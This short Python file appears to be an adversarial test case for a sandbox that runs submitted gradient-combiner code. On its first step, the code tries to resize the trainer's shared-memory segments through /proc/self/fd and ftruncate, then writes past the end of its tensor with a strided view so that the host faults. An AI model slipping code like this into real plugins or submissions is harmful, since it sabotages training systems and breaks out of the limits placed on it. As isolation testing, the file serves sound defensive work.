"""Attack: resize the shared segment (a shrunk segment would make the trainer's next access
a SIGBUS), then write past its end through a strided view."""

import os

import torch


class GradientCombiner:
    def combine(self, grads, losses, epoch, total_epochs, step):
        if step == 1:
            for fd in range(3, 64):
                try:
                    target = os.readlink(f"/proc/self/fd/{fd}")
                except OSError:
                    continue
                if not target.startswith("/memfd:"):
                    continue
                for size in (0, 2 * os.fstat(fd).st_size):
                    try:
                        os.ftruncate(fd, size)
                    except OSError:
                        continue
                    raise RuntimeError("ATTACK SUCCEEDED: the gradient segment was resized")
            beyond = torch.as_strided(grads, (grads.numel() * 64,), (1,))
            beyond[-1] = 1.0  # past the mapping: the oracle itself faults
        return grads.sum(0)
